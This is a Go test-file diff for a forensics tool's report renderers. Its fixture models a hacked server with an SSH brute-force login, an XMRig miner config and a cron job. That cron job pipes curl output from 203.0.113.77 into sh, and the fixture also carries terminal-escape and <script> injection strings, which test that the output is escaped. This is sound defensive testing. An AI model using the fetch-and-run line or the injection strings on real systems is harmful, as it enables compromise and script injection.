@@ -11,11 +11,12 @@ import (
 	"regexp"
 	"strings"
 	"testing"
+	"time"
 	"unicode"
 
 	"github.com/google/go-cmp/cmp"
 
-	"icecore/forensics"
+	"icecore/forensics/model"
 	"icecore/forensics/model/modeltest"
 	"icecore/forensics/text"
 )
@@ -40,85 +41,83 @@ func golden(t *testing.T, name string, got []byte) {
 	}
 }
 
-func offset(n int64) *int64 { return &n }
-
 // intrusion is the analysis of a server that was hijacked. What comes from the image
 // holds what a terminal or a browser would obey, escaped as an analysis has it.
-func intrusion() *forensics.Analysis {
-	src := func(path string, line int) *forensics.SourceInfo {
-		return &forensics.SourceInfo{Volume: "p1", Path: path, Inode: 17, Line: line, Offset: 100, Length: 20, DiskOffset: offset(5000), State: "live", SHA256: strings.Repeat("ab", 32)}
+func intrusion() *model.Analysis {
+	src := func(path string, line int) model.Source {
+		return model.Source{Volume: "p1", Path: path, Inode: 17, Line: line, Offset: 100, Length: 20, DiskOffset: 5000, SHA256: strings.Repeat("ab", 32)}
 	}
 	const walletText = "4A1PHD6P8Nfc819wkGG4izEQhkmWZ4gPfcQcC8PD3PiMXPd5hmHjwP8MdiHnBWCxki22yogS76eYL2GMQvo1hDDiFxst7DL"
 	orphan := src("", 0)
-	orphan.State, orphan.Inode, orphan.Version = "orphan", 99, 7
+	orphan.State, orphan.Inode, orphan.Version = model.Orphan, 99, 7
 	packed := src("/var/log/auth.log.2.gz", 12)
-	packed.Member, packed.DiskOffset = "gzip", nil
-	a := &forensics.Analysis{
-		Schema:   forensics.Schema,
-		Tool:     forensics.Tool{Name: "icecore", Version: "1.0", Rules: forensics.RulesInfo{YARA: "y", Sigma: "s"}},
-		Image:    forensics.ImageInfo{Path: "snap shots/web'01.raw", Format: "qcow2", VirtualSize: 8 << 30, Files: []forensics.ImageFile{{Path: "snap shots/web'01.raw", Size: 1 << 30, SHA256: strings.Repeat("cd", 32)}}},
-		Snapshot: forensics.SnapshotInfo{TakenAt: "2026-01-12T09:30:00.123456789Z", Source: "ext4 journal commit"},
-		Volumes: []forensics.VolumeInfo{
+	packed.Member, packed.DiskOffset = "gzip", -1
+	a := &model.Analysis{
+		Schema:   model.SchemaName,
+		Tool:     model.Tool{Name: "icecore", Version: "1.0", Rules: model.Rules{YARA: "y", Sigma: "s"}},
+		Image:    model.Image{Path: "snap shots/web'01.raw", Format: "qcow2", VirtualSize: 8 << 30, Files: []model.ImageFile{{Path: "snap shots/web'01.raw", Size: 1 << 30, SHA256: strings.Repeat("cd", 32)}}},
+		Snapshot: model.Snapshot{TakenAt: time.Date(2026, 1, 12, 9, 30, 0, 123456789, time.UTC), Source: "ext4 journal commit"},
+		Volumes: []model.Volume{
 			{ID: "p15", Scheme: "gpt", Offset: 1 << 20, Size: 124 << 20, Filesystem: "vfat", Reason: "a FAT filesystem (an EFI system partition?): not read by this version"},
-			{ID: "p1", Scheme: "gpt", Offset: 128 << 20, Size: 7 << 30, Filesystem: "ext4", UUID: "u", Label: "root", Files: 27919, Journal: &forensics.JournalInfo{Replayed: true, Transactions: 20}},
+			{ID: "p1", Scheme: "gpt", Offset: 128 << 20, Size: 7 << 30, Filesystem: "ext4", UUID: "u", Label: "root", Files: 27919, Journal: &model.Journal{Replayed: true, Transactions: 20}},
 		},
-		System:  forensics.SystemInfo{Hostname: text.Escape("web\x1b[31m<b>01"), OS: "Debian GNU/Linux 12 (bookworm)", MachineID: "m", Timezone: "Asia/Shanghai"},
-		Verdict: forensics.VerdictInfo{State: "compromised", Since: "2026-01-12T08:58:31Z", SinceInferred: "year, zone", Because: []string{"F-0001"}},
-		Findings: []forensics.FindingInfo{
-			{ID: "F-0001", Rule: "guessed_password", Engine: "analysis", Title: "Login of root from 203.0.113.77 after its password was guessed", Description: "640 failed logins, then one that was accepted.", Level: "critical", Techniques: []string{"T1110.001", "T1078"}, Phase: "initial-access", Time: "2026-01-12T08:58:31Z", TimeInferred: "year, zone", Records: []string{"R-000001"}, Source: packed, Excerpt: "Jan 12 16:58:31 web01 sshd[22001]: Accepted password for root from 203.0.113.77 port 41022 ssh2"},
-			{ID: "F-0002", Rule: "XMRig_Binary", Engine: "yara", Title: "Program matches the YARA rule XMRig_Binary", Level: "critical", Phase: "mining", Time: "2026-01-12T09:00:01.5Z", Records: []string{"R-000002"}, Source: src("/tmp/.ICE-unix/.x/kswapd0", 0), Excerpt: "-o, --url=URL       URL of mining server"},
-			{ID: "F-0003", Rule: "XMRig_Binary", Engine: "yara", Title: "Program matches the YARA rule XMRig_Binary", Level: "critical", Phase: "mining", Records: []string{"R-000002"}, Source: orphan},
-			{ID: "F-0004", Rule: "cron_pipe_to_shell", Engine: "sigma", Title: "Cron Job Downloads and Executes Code", Level: "high", Techniques: []string{"T1053.003"}, Phase: "persistence", Time: "2026-01-12T09:02:00Z", Records: []string{"R-000003"}, Source: src(text.Escape("/etc/cron.d/\x1b[2J<script>alert(1)</script>\u202e汉字"), 1), Excerpt: text.Escape("* * * * * root curl -s http://203.0.113.77/\x1b]0;x\x07 | sh")},
-			{ID: "F-0005", Rule: "file_immutable", Engine: "sigma", Title: "Immutable Attribute on Sensitive File", Level: "medium", Phase: "persistence", Records: []string{}, Source: src("/root/.ssh/authorized_keys", 0)},
-			{ID: "F-0006", Rule: "guessing", Engine: "analysis", Title: "Passwords were guessed from 186 addresses", Level: "low", Phase: "initial-access"},
+		Hosts:   []model.Host{{Hostname: "web\x1b[31m<b>01", OS: "Debian GNU/Linux 12 (bookworm)", MachineID: "m", Timezone: "Asia/Shanghai"}},
+		Verdict: model.Verdict{State: model.Compromised, Since: model.When{Time: time.Date(2026, 1, 12, 8, 58, 31, 0, time.UTC), Meaning: model.Inferred, Inferred: "year, zone"}, SinceFinding: "F-0001", Because: []string{"F-0001"}},
+		Findings: []model.Finding{
+			{ID: "F-0001", Rule: "guessed_password", Engine: model.EngineAnalysis, Title: "Login of root from 203.0.113.77 after its password was guessed", Description: "640 failed logins, then one that was accepted.", Level: model.Critical, Techniques: []string{"T1110.001", "T1078"}, Phase: "initial-access", When: model.When{Time: time.Date(2026, 1, 12, 8, 58, 31, 0, time.UTC), Meaning: model.Inferred, Inferred: "year, zone"}, Records: []string{"R-000001"}, Source: packed, Excerpt: "Jan 12 16:58:31 web01 sshd[22001]: Accepted password for root from 203.0.113.77 port 41022 ssh2"},
+			{ID: "F-0002", Rule: "XMRig_Binary", Engine: model.EngineYARA, Title: "Program matches the YARA rule XMRig_Binary", Level: model.Critical, Phase: "mining", When: model.When{Time: time.Date(2026, 1, 12, 9, 0, 1, 500000000, time.UTC)}, Records: []string{"R-000002"}, Source: src("/tmp/.ICE-unix/.x/kswapd0", 0), Excerpt: "-o, --url=URL       URL of mining server"},
+			{ID: "F-0003", Rule: "XMRig_Binary", Engine: model.EngineYARA, Title: "Program matches the YARA rule XMRig_Binary", Level: model.Critical, Phase: "mining", Records: []string{"R-000002"}, Source: orphan},
+			{ID: "F-0004", Rule: "cron_pipe_to_shell", Engine: model.EngineSigma, Title: "Cron Job Downloads and Executes Code", Level: model.High, Techniques: []string{"T1053.003"}, Phase: "persistence", When: model.When{Time: time.Date(2026, 1, 12, 9, 2, 0, 0, time.UTC)}, Records: []string{"R-000003"}, Source: src("/etc/cron.d/\x1b[2J<script>alert(1)</script>\u202e汉字", 1), Excerpt: "* * * * * root curl -s http://203.0.113.77/\x1b]0;x\x07 | sh"},
+			{ID: "F-0005", Rule: "file_immutable", Engine: model.EngineSigma, Title: "Immutable Attribute on Sensitive File", Level: model.Medium, Phase: "persistence", Records: []string{}, Source: src("/root/.ssh/authorized_keys", 0)},
+			{ID: "F-0006", Rule: "guessing", Engine: model.EngineAnalysis, Title: "Passwords were guessed from 186 addresses", Level: model.Low, Phase: "initial-access"},
 		},
-		Records: []forensics.RecordInfo{
-			{ID: "R-000001", Kind: "auth.login", Source: *packed, Fields: modeltest.Fields("auth.login", "user=root")},
-			{ID: "R-000002", Kind: "miner.config", Source: *src("/tmp/.ICE-unix/.x/config.json", 0), Fields: modeltest.Fields("miner.config", "program=xmrig", "pool=stratum+ssl://pool.example.invalid:443", "host=pool.example.invalid", "port=443", "tls=yes", "user="+walletText, "wallet="+walletText, "coin=monero")},
-			{ID: "R-000003", Kind: "cron.job", Source: *src("/etc/cron.d/x", 1), Fields: modeltest.Fields("cron.job", "command=curl \x1b[2J</td><script>alert(2)</script>")},
+		Records: []model.Record{
+			{ID: "R-000001", Kind: "auth.login", Source: packed, Fields: modeltest.Fields("auth.login", "user=root")},
+			{ID: "R-000002", Kind: "miner.config", Source: src("/tmp/.ICE-unix/.x/config.json", 0), Fields: modeltest.Fields("miner.config", "program=xmrig", "pool=stratum+ssl://pool.example.invalid:443", "host=pool.example.invalid", "port=443", "tls=yes", "user="+walletText, "wallet="+walletText, "coin=monero")},
+			{ID: "R-000003", Kind: "cron.job", Source: src("/etc/cron.d/x", 1), Fields: modeltest.Fields("cron.job", "command=curl \x1b[2J</td><script>alert(2)</script>")},
 		},
-		Story: []forensics.StoryInfo{
-			{Time: "2026-01-12T08:58:31Z", Phase: "initial-access", Text: "Login of root from 203.0.113.77 after its password was guessed", Finding: "F-0001"},
-			{Time: "2026-01-12T09:00:01.5Z", Phase: "mining", Text: "Program matches the YARA rule XMRig_Binary: /tmp/.ICE-unix/.x/kswapd0", Finding: "F-0002"},
+		Story: []model.StoryLine{
+			{When: model.When{Time: time.Date(2026, 1, 12, 8, 58, 31, 0, time.UTC)}, Phase: "initial-access", Text: "Login of root from 203.0.113.77 after its password was guessed", Finding: "F-0001"},
+			{When: model.When{Time: time.Date(2026, 1, 12, 9, 0, 1, 500000000, time.UTC)}, Phase: "mining", Text: "Program matches the YARA rule XMRig_Binary: /tmp/.ICE-unix/.x/kswapd0", Finding: "F-0002"},
 			{Phase: "persistence", Text: "Immutable Attribute on Sensitive File: /root/.ssh/authorized_keys", Finding: "F-0005"},
 		},
-		Coverage: forensics.Coverage{Files: 23908, BytesScanned: 536649303, NotRead: []forensics.NotRead{
-			{What: "volume p15 (vfat)", Why: "a FAT filesystem (an EFI system partition?): not read by this version"},
-			{What: "volume p1, /var/lib/big", Why: "larger than the limit for one file: 30000000000 bytes, the limit is 21474836480"},
+		Coverage: model.Coverage{Files: 23908, BytesScanned: 536649303, Gaps: []model.Gap{
+			{WhatText: "volume p15 (vfat)", WhyText: "a FAT filesystem (an EFI system partition?): not read by this version"},
+			{WhatText: "volume p1, /var/lib/big", WhyText: "larger than the limit for one file: 30000000000 bytes, the limit is 21474836480"},
 		}},
 	}
 	return a
 }
 
 // quiet is the analysis of a server on which nothing was found.
-func quiet() *forensics.Analysis {
+func quiet() *model.Analysis {
 	a := intrusion()
-	a.Verdict = forensics.VerdictInfo{State: "no-indicators", Because: []string{}}
+	a.Verdict = model.Verdict{State: model.NoIndicators}
 	a.Findings, a.Story = a.Findings[5:], nil
 	a.Records = a.Records[:1]
 	return a
 }
 
 // unread is the analysis of a disk of which nothing could be read.
-func unread() *forensics.Analysis {
-	return &forensics.Analysis{
-		Image: forensics.ImageInfo{Path: "disk.raw", Format: "raw"}, Verdict: forensics.VerdictInfo{State: "no-indicators"},
-		Volumes:  []forensics.VolumeInfo{{ID: "p1", Filesystem: "ext4", Size: 1 << 30}},
-		Coverage: forensics.Coverage{NotRead: []forensics.NotRead{{What: "content of all files, by YARA", Why: "icecore was built without cgo"}, {What: "volume p1, root directory", Why: "inode 2: corrupt: not a directory"}}},
+func unread() *model.Analysis {
+	return &model.Analysis{
+		Image: model.Image{Path: "disk.raw", Format: "raw"}, Verdict: model.Verdict{State: model.NoIndicators},
+		Volumes:  []model.Volume{{ID: "p1", Filesystem: "ext4", Size: 1 << 30}},
+		Coverage: model.Coverage{Gaps: []model.Gap{{WhatText: "content of all files, by YARA", WhyText: "icecore was built without cgo"}, {WhatText: "volume p1, root directory", WhyText: "inode 2: corrupt: not a directory"}}},
 	}
 }
 
 // suspect has findings that none of the questions but one is answered by.
-func suspect() *forensics.Analysis {
+func suspect() *model.Analysis {
 	a := intrusion()
-	a.Verdict = forensics.VerdictInfo{State: "suspicious"}
+	a.Verdict = model.Verdict{State: model.Suspicious}
 	a.Findings, a.Records, a.Story = a.Findings[4:5], nil, a.Story[2:]
-	a.Coverage.NotRead = nil
+	a.Coverage.Gaps = nil
 	return a
 }
 
 func TestTerminalGolden(t *testing.T) {
-	for name, a := range map[string]*forensics.Analysis{"compromised": intrusion(), "no-indicators": quiet(), "nothing-read": unread(), "suspicious": suspect()} {
+	for name, a := range map[string]*model.Analysis{"compromised": intrusion(), "no-indicators": quiet(), "nothing-read": unread(), "suspicious": suspect()} {
 		for _, width := range []int{80, 160} {
 			var b bytes.Buffer
 			if err := Terminal(&b, a, Options{Width: width}); err != nil {
@@ -134,7 +133,7 @@ var ansi = regexp.MustCompile("\x1b\\[[0-9;]*m")
 // Whatever the width, and with colours: no line is wider, nothing of the image
 // reaches the terminal that it would obey, and the first screen holds the answers.
 func TestTerminalFits(t *testing.T) {
-	for name, a := range map[string]*forensics.Analysis{"compromised": intrusion(), "no-indicators": quiet(), "nothing-read": unread(), "suspicious": suspect()} {
+	for name, a := range map[string]*model.Analysis{"compromised": intrusion(), "no-indicators": quiet(), "nothing-read": unread(), "suspicious": suspect()} {
 		for width := 40; width <= 200; width += 3 {
 			for _, color := range []bool{false, true} {
 				var b bytes.Buffer
@@ -200,7 +199,7 @@ func TestHTMLGolden(t *testing.T) {
 			t.Errorf("the page does not hold %q", want)
 		}
 	}
-	for _, a := range []*forensics.Analysis{quiet(), unread(), suspect()} {
+	for _, a := range []*model.Analysis{quiet(), unread(), suspect()} {
 		b.Reset()
 		if err := HTML(&b, &Page{Analysis: a}); err != nil {
 			t.Error(err)
@@ -211,7 +210,7 @@ func TestHTMLGolden(t *testing.T) {
 // The command that is offered for a check is one word an argument, whatever the
 // image is called.
 func TestCheck(t *testing.T) {
-	a := intrusion()
+	a := viewOf(intrusion())
 	for i, want := range []string{
 		`icecore cat 'snap shots/web'\''01.raw' --volume p1 --inode 17 | zcat | tail -c +101 | head -c 20`,
 		`icecore cat 'snap shots/web'\''01.raw' --volume p1 --inode 17 --offset 100 --length 20`,
@@ -291,7 +290,7 @@ func TestJSON(t *testing.T) {
 	if err := JSON(&b, intrusion()); err != nil || !json.Valid(b.Bytes()) {
 		t.Fatalf("%v %s", err, b.String())
 	}
-	if !strings.Contains(b.String(), `"schema": "icecore.analysis/1"`) || strings.ContainsAny(b.String(), "\x1b\x07") {
+	if !strings.Contains(b.String(), `"schema": "icecore.analysis/2"`) || strings.ContainsAny(b.String(), "\x1b\x07") {
 		t.Error(b.String())
 	}
 }
